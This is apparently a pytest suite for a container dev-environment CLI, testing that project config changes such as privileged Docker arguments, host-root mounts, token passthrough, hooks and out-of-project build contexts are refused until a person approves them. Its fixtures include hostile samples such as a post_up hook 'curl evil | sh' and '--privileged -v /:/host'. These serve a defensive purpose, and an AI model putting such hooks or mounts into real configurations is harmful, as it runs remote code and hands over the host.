"""What a config.yaml may have of the host: nothing that its person has not approved."""

from __future__ import annotations

import ast
import json
import os
import subprocess
import termios
import threading
from pathlib import Path
from typing import Any

import enginelib
import pytest
from conftest import approve, replace, run_cli, terminal, write_stub
from enginelib import PASSPHRASE, Place
from test_config import KEYS
from test_structure import FUNCTION, TREE, section_of

import tazpod
from tazpod import Config

place, lab, template = enginelib.place, enginelib.lab, enginelib.template

PROJECT = Path("/srv/blue")
DEFAULT = Config(PROJECT, "blue-lab")
FREE = ("vault_size", "vault_autolock", "sync_interval", "push_on_exit")
HOSTILE = """\
docker: {args: [--privileged, -v, "/:/host"]}
env: {GITHUB_TOKEN: }
features: {ssh_agent: true}
hooks: {post_up: "curl evil | sh"}
build: {context: ../private}
"""
ASKED = ["build.context", "features.ssh_agent", "docker.args", "env", "hooks.post_up"]


# -- the decision


def names(config: Config, approved: dict[str, Any]) -> list[str]:
    return [change.name for change in tazpod.changes_between(config, approved)]


def test_the_defaults_need_no_approval():
    assert names(DEFAULT, {}) == []


@pytest.mark.parametrize("text, field, value", KEYS)
def test_every_other_value_does_unless_it_stays_with_the_vault(text, field, value):
    config = tazpod.parse_config(text, PROJECT)[0]
    setting = next(name for name, key in tazpod.KEYS.items() if key.field == field)
    differs = getattr(config, field) != getattr(DEFAULT, field)
    assert names(config, {}) == ([setting] if differs and field not in FREE else [])
    assert names(config, tazpod.settings_of(config)) == []
    if differs and field not in FREE:  # nor is the way back to the default taken in silence
        assert names(DEFAULT, tazpod.settings_of(config)) == [setting]


def test_a_new_key_needs_approval_without_being_named_anywhere():
    free = {tazpod.KEYS[name].field for name in tazpod.NEEDS_NO_APPROVAL}
    assert free == set(FREE)


def test_the_default_of_an_earlier_version_is_as_good_as_the_present_one():
    older = {**tazpod.settings_of(DEFAULT), "identity": tazpod.FORMER_DEFAULTS["identity"]}
    assert names(DEFAULT, older) == []
    assert names(DEFAULT, {**older, "identity": [".pi"]}) == ["identity"]
    assert names(replace(DEFAULT, identity=(".pi",)), older) == ["identity"]


def test_a_setting_that_an_older_tool_did_not_know_had_its_default():
    approved = tazpod.settings_of(DEFAULT)
    del approved["docker.args"]
    assert names(DEFAULT, approved) == []
    assert names(replace(DEFAULT, docker_args=("--privileged",)), approved) == ["docker.args"]


@pytest.mark.parametrize(
    "kept, asked, shown",
    [
        ("", "aws_sso: {region: eu-central-1}", 'aws_sso: names no storage -> names "tazlab-storage"'),
        ("aws_sso: {region: eu-central-1}", "", 'aws_sso: names "tazlab-storage" -> names no storage'),
        ("aws_sso: {region: eu-central-1}", "aws_sso: {bucket: tazlab-storage}", ""),
    ],
)
def test_whether_a_storage_is_named_is_approved_whatever_its_values(kept, asked, shown, project):
    """By nothing but the default of a key, the vault would be sent to a bucket, or no longer."""
    approve(project, kept)
    (project / tazpod.CONFIG_PATH).write_text(asked)
    assert run_cli("trust", "--show").stdout.strip() == shown
    assert run_cli("trust").returncode == 0
    assert tazpod.the_project().aws_named == bool(asked)
    assert run_cli("trust", "--show").stdout == ""


def test_both_values_are_shown_and_none_can_write_to_the_terminal():
    config = replace(DEFAULT, post_up="a\x1b[2J\nb\u202e", context="../private", env=(("A", None),))
    shown = {name: (old, new) for name, old, new in tazpod.changes_between(config, {})}
    assert shown == {
        "build.context": ('"."', '"../private" (outside the project)'),
        "env": ("{}", '{"A": null}'),
        "hooks.post_up": ('""', r'"a\u001b[2J\nb\u202e"'),
    }
    (change,) = tazpod.changes_between(replace(DEFAULT, post_up="a    b" + " " * 99), {})
    assert json.loads(change.new) == "a    b" + " " * 99 and "  " not in change.new


@pytest.mark.parametrize(
    "text",
    [
        "env: {TOKEN: zebra}",
        "env: {TOKEN: 'zebra''s', A: b}",
        "docker: {args: [-e, TOKEN=zebra]}",
        "docker: {args: [--env, TOKEN=zebra, --env=B=zebra, -eC=zebra]}",
        "env:\n  TOKEN: |\n    two\n    zebra\n",
    ],
)
def test_no_value_of_a_variable_is_kept_and_each_is_known_again(text, project):
    approve(project, text)
    request = tazpod.read_request(project)
    kept = b"".join(path.read_bytes() for path in tazpod.state_folder().rglob("*") if path.is_file())
    assert b"zebra" not in kept and "zebra" not in str(tazpod.made_from(request.config))
    assert request.config == tazpod.parse_config(text, project)[0]
    assert request.changes == []
    (project / tazpod.CONFIG_PATH).write_text(text.replace("zebra", "zebru"))
    assert len(tazpod.read_request(project).changes) == 1


@pytest.mark.parametrize(
    "text", ["env: {A: x, B: x}", "env: {A: env, B: ''}", "docker: {args: [args, docker]}"]
)
def test_a_value_that_stands_in_the_text_twice_is_the_right_one(text, project):
    approve(project, text)
    request = tazpod.read_request(project)
    assert request.kept and request.config == tazpod.parse_config(text, project)[0]


@pytest.mark.parametrize(
    "words", [["-ite", "A=zebra"], ["-e", "a-b=zebra"], ["-e", "--a=zebra"], ["-tieA=zebra"], ["-e=A=zebra"]]
)
def test_no_form_of_a_variable_in_the_words_for_docker_is_kept(words, project):
    approve(project, f"docker: {{args: {json.dumps(words)}}}")
    assert "zebra" not in (tazpod.project_state(project) / tazpod.APPROVAL_RECORD).read_text()
    assert tazpod.read_request(project).config.docker_args == tuple(words)


def test_the_configs_that_version_0_5_0_kept_are_gone(project):
    old = tazpod.private_folder(tazpod.state_folder() / "configs")
    (old / "x.json").write_text("s3cret")
    approve(project)
    assert not old.exists()


# -- the gate


READ_ONLY = {"status", "config", "list", "history", "doctor", "logs", "completion", "trust"}
ENDS = {"lock", "save", "down"}
TYPED = {
    "run": ["run", "true"],
    "restore": ["restore", "x"],
    "completion": ["completion", "bash"],
    "adopt": ["adopt", ".x"],
}


@pytest.fixture
def docker(stub_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A docker that keeps a record of each call, and has neither container nor image."""
    calls = stub_path.parent / "calls"
    calls.write_text("")
    write_stub(
        stub_path,
        "docker",
        f"""echo "$@" >> "{calls}"
case $1 in
inspect) echo "[]"; echo "Error: No such object: $2" >&2; echo "Error: No such object: $3" >&2; exit 1;;
info) echo '{{"ServerVersion": "1"}}';;
esac""",
    )
    monkeypatch.setenv("PATH", f"{stub_path}:{os.environ['PATH']}")
    return calls


@pytest.mark.parametrize("name", sorted(set(tazpod.all_words()) - READ_ONLY - ENDS - {"init", "env"}))
@pytest.mark.parametrize("yes", [[], ["--yes"]])
def test_no_word_acts_on_what_was_not_approved(name, yes, project, docker):
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    done = run_cli(*yes, *TYPED.get(name, [name]), env={**os.environ, "GITHUB_TOKEN": "s3cret"})
    assert done.returncode == 2, done.stderr
    *shown, error, hint = done.stderr.splitlines()
    path = project / tazpod.CONFIG_PATH
    assert error == f"tazpod: error: {path}: asks for what was not approved: {', '.join(ASKED)}"
    assert hint == "hint: tazpod trust"
    assert 'tazpod:   docker.args: [] -> ["--privileged", "-v", "/:/host"]' in shown
    assert docker.read_text() == ""
    assert tazpod.read_approval(project).settings["docker.args"] == []


@pytest.mark.parametrize(
    "words", [["history", "--remote"], ["verify", "--remote"], ["pull", "image"], ["ssh"]]
)
def test_nor_does_another_form_of_a_word(words, project, docker):
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    assert run_cli(*words).returncode == 2
    assert docker.read_text() == ""


@pytest.mark.parametrize("name", sorted(READ_ONLY | ENDS))
def test_looking_and_ending_work_and_hand_nothing_over(name, project, docker):
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    done = run_cli(*TYPED.get(name, [name]), *(["--show"] if name == "trust" else []))
    assert done.returncode in (0, 1, 4), done.stderr
    assert "a fault in tazpod" not in done.stderr
    calls = [line.split()[0] for line in docker.read_text().splitlines()]
    assert set(calls) <= {"inspect", "info", "container"}
    assert names(tazpod.read_request(project).config, tazpod.read_approval(project).settings) == ASKED


READS = {"read_request", "parse_config", "config_text", "approved_config", "for_this_host", "take_request"}


def test_only_the_gate_and_what_shows_a_config_reads_one():
    """A word that is written tomorrow gets a config by `the_project` or not at all."""
    found = {
        owner.name
        for owner in TREE.body
        if isinstance(owner, FUNCTION) and section_of(owner.lineno) > 4
        for leaf in ast.walk(owner)
        if isinstance(leaf, ast.Name) and leaf.id in READS
    }
    shown = {"cmd_config", "cmd_trust", "cmd_doctor", "host_facts"}
    named = {"vault_shown", "project_of"}  # of these only what a container is called, and whose it is
    assert found == {"the_project", "request_in_pod"} | shown | named


def test_a_dry_run_shows_what_would_be_done_and_that_approval_comes_first(project, docker, monkeypatch):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "x")
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    done = run_cli("--dry-run", "up")
    assert done.returncode == 0
    assert "--privileged" in done.stdout and "AWS_ACCESS_KEY_ID" not in done.stdout
    assert done.stderr.splitlines()[0].endswith("so this comes first: tazpod trust")
    assert tazpod.read_approval(project).settings["docker.args"] == []


def test_trust_shows_and_approves_and_then_the_words_act(project, docker):
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    for words in (["trust", "--show"], ["trust", "--show"], ["--dry-run", "trust"], ["trust"]):
        done = run_cli(*words)
        assert done.returncode == 0
        assert [line.split(":")[0] for line in done.stdout.splitlines()] == ASKED
    assert run_cli("trust", "--show").stdout == ""
    (project.parent / "private").mkdir()
    run_cli("build")
    assert docker.read_text().splitlines()[-1] == "build -t tazzo/tazpod-ai:latest -f - ../private"


@pytest.mark.parametrize("answer", ["y", "n", ""])
def test_on_a_terminal_the_person_is_asked_and_only_their_yes_counts(answer, project, docker, monkeypatch):
    approve(project, "image: a\n")
    (project / tazpod.CONFIG_PATH).write_text("image: b\n")
    flush = termios.tcflush
    with terminal() as person:

        def flushed(*words: int) -> None:
            flush(*words)
            person.type(f"{answer}\n")

        monkeypatch.setattr(termios, "tcflush", flushed)
        person.type("y\n")  # before the question: not an answer to it
        code = tazpod.main(["--yes", "pull", "image"])
        shown = person.shown()
    assert 'image: "a" -> "b"' in shown and "Approve image? [y/N]" in shown
    assert code == (0 if answer == "y" else 2)
    assert tazpod.read_approval(project).settings["image"] == ("b" if answer == "y" else "a")


def test_what_is_used_is_what_was_compared(project, monkeypatch):
    """The file is changed right after it was read: neither the word nor the approval sees that."""
    read = tazpod.config_text

    def swapped(*words: Any) -> str:
        text = read(*words)
        (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
        return text

    (project / tazpod.CONFIG_PATH).write_text("shell: /bin/zsh\n")
    with monkeypatch.context() as patch:
        patch.setattr(tazpod, "config_text", swapped)
        assert tazpod.main(["trust"]) == 0
        assert tazpod.read_approval(project).settings["shell"] == "/bin/zsh"
        (project / tazpod.CONFIG_PATH).write_text("shell: /bin/zsh\n")
        assert tazpod.the_project().docker_args == ()
    assert names(tazpod.read_request(project).config, tazpod.read_approval(project).settings) != []


@pytest.mark.parametrize("text", ["user: root\ncontainer_name: other\n", "user: [", "\0"])
@pytest.mark.parametrize("name", ["lock", "save", "down"])
def test_ending_goes_by_what_was_approved_last(name, text, project, docker):
    approve(project, "user: dev\ncontainer_name: mine\n")
    (project / tazpod.CONFIG_PATH).write_text(text)
    run_cli(name)
    assert docker.read_text().splitlines()[0] == "inspect mine tazzo/tazpod-ai:latest"
    config = tazpod.the_project(tazpod.ENDS)
    assert (config.user, config.container_name) == ("dev", "mine")


def test_what_init_writes_needs_no_approval_and_what_was_there_does(tmp_path, monkeypatch):
    for folder, text in (("new", None), ("clone", HOSTILE)):
        project = tmp_path / folder
        (project / ".tazpod").mkdir(parents=True)
        if text:
            (project / tazpod.CONFIG_PATH).write_text(text)
        done = run_cli("init", "--image", "example.com/a:1", "--name", "my-box", cwd=project)
        assert done.returncode == 0, done.stderr
        monkeypatch.chdir(project)
        assert [change.name for change in tazpod.read_request(project).changes] == (ASKED if text else [])


def test_a_bare_init_needs_no_library_and_its_project_is_the_same_as_parsed(project):
    assert tazpod.the_project() == tazpod.parse_config(tazpod.config_text(project), project)[0]


def test_status_and_doctor_tell(project, docker):
    (project / tazpod.CONFIG_PATH).write_text(HOSTILE)
    facts = json.loads(run_cli("status", "--json").stdout)
    assert (facts["config"], facts["next"]) == ({"unapproved": ASKED}, "tazpod trust")
    checks = json.loads(run_cli("doctor", "--json").stdout)
    (found,) = [item for item in checks if item["fix"] == "tazpod trust"]
    assert found["level"] == "failure"


# -- the Dockerfile, and what leads out of the project


def test_a_dockerfile_that_was_not_approved_is_not_built(project, docker):
    path = project / tazpod.DOCKERFILE_PATH
    assert run_cli("build").returncode == 0
    path.write_text("FROM evil\n")
    assert "docker build" in run_cli("--dry-run", "build").stdout
    done = run_cli("--yes", "build")
    assert (done.returncode, len(docker.read_text().splitlines())) == (2, 1)
    assert done.stderr.splitlines()[-1] == "hint: tazpod trust"
    assert run_cli("trust").stdout.startswith(".tazpod/Dockerfile.ai: ")
    assert run_cli("build").returncode == 0
    path.write_text("FROM worse\n")
    assert run_cli("build").returncode == 2


def test_a_yes_to_a_dockerfile_brings_nothing_back_that_was_revoked_meanwhile(project, monkeypatch):
    approve(project, "docker: {args: [--privileged]}")
    (project / tazpod.DOCKERFILE_PATH).write_text("FROM other\n")
    config = tazpod.the_project()

    def answer(*_):  # the person, who takes their time
        (project / tazpod.CONFIG_PATH).write_text("")
        assert run_cli("trust").returncode == 0

    monkeypatch.setattr(tazpod, "ask_approval", answer)
    tazpod.approved_dockerfile(config)
    assert tazpod.read_approval(project).settings["docker.args"] == []


def test_a_context_that_becomes_a_link_while_the_question_is_asked_is_refused(project, tmp_path):
    (project / "ctx").mkdir()
    (tmp_path / "elsewhere").mkdir()
    approve(project, "build: {context: ctx}")
    (project / tazpod.DOCKERFILE_PATH).write_text("FROM other\n")
    config = tazpod.the_project()
    with terminal() as person:

        def swap_and_answer() -> None:
            seen = ""
            while "[y/N]" not in seen:
                seen += person.shown()
            (project / "ctx").rmdir()
            (project / "ctx").symlink_to(tmp_path / "elsewhere")
            person.type("y\n")

        inside = threading.Thread(target=swap_and_answer)
        inside.start()
        try:
            with pytest.raises(tazpod.UsageError, match="leads out of the project"):
                tazpod.approved_dockerfile(config)
        finally:
            inside.join()


def test_a_dockerfile_that_another_version_wrote_needs_no_approval(project, monkeypatch):
    config = tazpod.the_project()
    text = tazpod.approved_dockerfile(config)
    monkeypatch.setattr(tazpod, "DOCKERFILE", "FROM another\n")
    assert tazpod.approved_dockerfile(config) == text


def test_docker_gets_the_text_that_was_approved(project, stub_path, monkeypatch):
    monkeypatch.setenv("PATH", f"{stub_path}:{os.environ['PATH']}")
    path = project / tazpod.DOCKERFILE_PATH
    write_stub(stub_path, "docker", f"echo FROM evil > {path}; cat > {stub_path}/got")
    assert run_cli("build").returncode == 0
    assert (stub_path / "got").read_text() == tazpod.DOCKERFILE


LEADS = {
    "cache": (None, False),
    "real": ("folder", False),
    "inside": ("real", False),
    "up and down": ("../project/real", False),
    "out": ("../private", True),
    "absolute": ("/etc", True),
    "twice": ("out", True),
    "itself": ("itself", True),
    "long": ("./" * 2000 + "../private", True),
    "to the folder above": ("..", True),
}


@pytest.mark.parametrize("name", LEADS)
def test_a_link_in_the_project_leads_nobody_out(name, tmp_path):
    project = tmp_path / "project"
    for folder in (project / "real/deep", tmp_path / "private", tmp_path / "elsewhere"):
        folder.mkdir(parents=True)
    for link, (target, _) in LEADS.items():
        if target not in (None, "folder"):
            (project / link).symlink_to(target)
    (tmp_path / "elsewhere/link").symlink_to(f"../project/{name}")
    config, expected = Config(project, "x"), LEADS[name][1]
    assert tazpod.leads_out(project, str(project / name)) is expected
    assert tazpod.leads_out(project, f"{project / name}/deep/{'./' * 2000}er") is expected
    assert tazpod.leads_out(project, str(tmp_path / "elsewhere/link")) is expected
    if expected:
        with pytest.raises(tazpod.UsageError, match="leads out of the project"):
            tazpod.mount_word(config, f"./{name}:/x")
        for word in (f"{project}/{name}:/x", f"--mount=type=bind,source={project}/{name},target=/x"):
            with pytest.raises(tazpod.UsageError, match="leads out of the project"):
                tazpod.run_argv(replace(config, docker_args=("-v", word)), tmp_path)
        with pytest.raises(tazpod.UsageError, match="leads out of the project"):
            tazpod.approved_dockerfile(replace(config, context=name))


def test_a_path_outside_is_ones_own_affair(tmp_path):
    (tmp_path / "link").symlink_to("/etc")
    assert not tazpod.leads_out(tmp_path / "project", str(tmp_path / "link"))
    assert not tazpod.leads_out(tmp_path / "project", "/etc")


# -- a git worktree


@pytest.fixture
def worktree(project: Path) -> Path:
    """The folder of a repository, as git lays it out for the project as a worktree of it."""
    common = project.parent / "repo/.git"
    own = common / "worktrees/one"
    for folder in (own, common / "objects"):
        folder.mkdir(parents=True)
    (common / "HEAD").write_text("ref: refs/heads/main\n")
    (own / "gitdir").write_text(f"{project}/.git\n")
    (project / ".git").write_text(f"gitdir: {own}\n")
    return common


def test_a_worktree_is_found_by_both_forms_of_its_links(project, worktree):
    own = worktree / "worktrees/one"
    assert tazpod.find_worktree(project, {os.geteuid()}) == (own, own)
    (project / ".git").write_text("gitdir: ../repo/.git/worktrees/one\n")
    (own / "gitdir").write_text(os.path.relpath(project / ".git", own))
    found = tazpod.find_worktree(project, {os.geteuid()})
    assert found == (own, Path("/repo/.git/worktrees/one")) and found.common == str(worktree)


def break_link(project: Path, common: Path, what: str) -> None:
    """Make of a worktree's files what a program that writes some of them might."""
    own = common / "worktrees/one"
    if "/" in what:
        (project / ".git").write_text(f"gitdir: {what}\n")
    elif what == "no way back":
        (own / "gitdir").write_text(f"{project}/../other/.git\n")
    elif what == "a link":
        common.rename(common.with_name("real"))
        common.symlink_to("real")
    elif what == "in the project":
        common.rename(project / "repo")
        (project / ".git").write_text("gitdir: repo/worktrees/one\n")
    elif what == "all of the home":
        (project.parent / "HEAD").write_text("")
        (project.parent / "objects").mkdir()
        (common / "worktrees").rename(project.parent / "worktrees")
        (project / ".git").write_text("gitdir: ../worktrees/one\n")
    elif what == "no objects":
        (common / "objects").rmdir()
    else:
        os.chown(common, 1, -1)


BROKEN = {
    "../../repo.git": "is no worktree's",
    "OWN\nmore": "names no folder",
    "OWN:/etc": "names no folder",
    "COMMON/modules/one": "is no worktree's",
    "/nowhere/worktrees/x": "is no folder of a repository",
    "no way back": "does not name this project",
    "a link": "a link is on the way",
    "in the project": "lies in the project",
    "all of the home": "holds more than a repository",
    "no objects": "is no folder of a repository",
    "of another user": "belongs to daemon",
}


@pytest.mark.parametrize("what", BROKEN)
def test_a_worktree_that_git_would_not_believe_is_none_and_named(what, project, worktree, docker):
    if what == "of another user" and os.geteuid() != 0:
        pytest.skip("needs root to give a folder away")
    own = worktree / "worktrees/one"
    break_link(project, worktree, what.replace("OWN", str(own)).replace("COMMON", str(worktree)))
    done = run_cli("trust")
    assert (done.returncode, done.stdout) == (0, "")
    assert BROKEN[what] in done.stderr and "is not followed" in done.stderr
    assert tazpod.approved_git(project) == ""


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: os.symlink("/etc/passwd", path)])
def test_what_is_no_file_is_no_worktree(make, project, docker):
    make(project / ".git")
    assert run_cli("trust").stdout == ""


def test_a_repository_may_not_take_the_place_of_the_secrets(project, worktree, monkeypatch):
    secrets = project.parent / "home/tazpod/secrets"
    secrets.mkdir(parents=True)
    worktree.rename(secrets / ".git")
    (project / ".git").write_text("gitdir: ../home/tazpod/secrets/.git/worktrees/one\n")
    tazpod.main(["trust"])
    with pytest.raises(tazpod.UsageError, match="taken by /home/tazpod/secrets"):
        tazpod.with_git_mounts(tazpod.the_project())


# -- whose files


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
@pytest.mark.parametrize("given", [".tazpod", tazpod.CONFIG_PATH, tazpod.DOCKERFILE_PATH])
def test_the_files_of_another_user_are_refused_with_both_names(given, project, docker):
    os.chown(project / given, 1, -1)
    done = run_cli("build")
    assert done.returncode == 1
    said = f"tazpod: error: {project / given}: belongs to daemon, and you are root"
    assert said in done.stderr.splitlines()
    assert docker.read_text() == ""
    down = run_cli("down").stderr.splitlines()
    if given == ".tazpod":
        assert said in down
    elif given == tazpod.CONFIG_PATH:  # that goes by what was approved before
        assert said.replace("error", "warning") in down


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
def test_root_may_work_for_who_called_sudo_and_where_root_has_chosen_to(project, docker):
    for path in (project / ".tazpod", project / tazpod.CONFIG_PATH, project / tazpod.DOCKERFILE_PATH):
        os.chown(path, 1, -1)
    assert run_cli("build").returncode == 1
    assert run_cli("build", env={**os.environ, "SUDO_UID": "2"}).returncode == 1
    assert run_cli("build", env={**os.environ, "SUDO_UID": "1"}).returncode == 0
    assert run_cli("trust").returncode == 0
    assert run_cli("build").returncode == 0
    os.chown(project / tazpod.CONFIG_PATH, 2, -1)
    assert run_cli("build").returncode == 1
    assert run_cli("trust").returncode == 1


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
def test_init_writes_nothing_into_what_somebody_else_has_made(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".tazpod").mkdir()
    os.chown(tmp_path / ".tazpod", 1, 1)
    for env in ({**os.environ}, {**os.environ, "SUDO_UID": "2"}):
        done = run_cli("init", env=env)
        assert done.returncode == 1
        assert f"{tmp_path}/.tazpod: belongs to daemon, and you are root" in done.stderr
    assert list((tmp_path / ".tazpod").iterdir()) == [] and tazpod.read_approval(tmp_path) is None
    assert run_cli("init", env={**os.environ, "SUDO_UID": "1"}).returncode == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
def test_a_hint_to_give_a_file_away_gives_no_other_one_that_a_link_leads_to(project, monkeypatch, capfd):
    monkeypatch.setattr(os, "geteuid", lambda: 1)
    with pytest.raises(tazpod.TazpodError) as caught:
        tazpod.refuse_strangers(project / tazpod.CONFIG_PATH, 0, {1})
    assert f"sudo chown -h 1 {project / tazpod.CONFIG_PATH}" in caught.value.hint


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file away")
def test_doctor_gives_nothing_to_whoever_owns_the_folder_around_the_project(project):
    os.chown(project, 1, 1)
    config = tazpod.Config(project, "x-lab")
    assert not [check for check in tazpod.check_owners(config) if "chown" in check.fix]
    os.chown(project / tazpod.CONFIG_PATH, 1, 1)
    fixes = [check.fix for check in tazpod.check_owners(config) if "chown" in check.fix]
    assert fixes == [f"sudo chown -hR 0:0 {project}/.tazpod"]
    os.chown(project / ".tazpod", 2, 2)
    said = run_cli("doctor").stdout
    assert f"{project}/.tazpod: belongs to bin, and you are root" in said and "chown" not in said


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to read it")
def test_a_dockerfile_that_gives_nothing_is_an_error_in_one_line(project, docker):
    (project / tazpod.CONFIG_PATH).write_text("build: {dockerfile: /proc/kmsg}\n")
    with open("/dev/kmsg", "w"), open("/proc/kmsg", "rb", 0) as log:
        os.set_blocking(log.fileno(), False)
        while log.read(1 << 16):
            pass
    done = run_cli("trust")
    assert done.returncode == 1 and "a fault in tazpod" not in done.stderr
    assert "/proc/kmsg: gives nothing" in done.stderr or "/proc/kmsg: is too large" in done.stderr


def test_folders_nested_deeper_than_python_can_call_are_looked_through(project):
    folder = os.open(project / ".tazpod/vault", os.O_RDONLY)
    for _ in range(3000):  # beyond what a path can name as well
        os.mkdir("d", dir_fd=folder)
        below = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = below
    os.close(folder)
    try:
        assert len(list(tazpod.all_below(project / ".tazpod/vault"))) > 1500
        assert len(list(tazpod.check_owners(tazpod.Config(project, "x-lab")))) > 1500
    finally:
        subprocess.run(["rm", "-r", project / ".tazpod/vault/d"], check=True)


def test_a_user_cannot_approve_the_files_of_another(project, monkeypatch, capfd):
    uid = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: uid + 4711)
    monkeypatch.setenv("SUDO_UID", str(uid))
    for words in (["trust"], ["up"], ["down"], ["lock"], ["status"], ["history"], ["--dry-run", "up"]):
        assert tazpod.main(words) == 1
        assert f"belongs to {tazpod.user_name(uid)}, and you are user {uid + 4711}" in capfd.readouterr().err


# -- with a real engine


@pytest.mark.engine
def test_what_a_program_inside_writes_reaches_the_host_only_when_it_is_approved(lab: Place) -> None:
    lab.ok("unlock", passphrase=PASSPHRASE)
    lab.reads("echo new > ~/secrets/new; echo 'mounts: [/:/host]' >> /workspace/.tazpod/config.yaml")
    assert lab.run("run", "true").returncode == 2
    assert lab.run("--yes", "up", "--recreate").returncode == 2
    assert lab.reads("ls /host 2> /dev/null || echo none") == "none"
    assert "next: tazpod trust" in lab.run("status").stdout
    lab.ok("down")
    assert lab.run("up").returncode == 2
    person = lab.terminal()
    person.answers((r"Approve mounts\? \[y/N\] ", "n"))
    assert person.ends() == 2
    assert "No such" in lab.inside("true").stderr
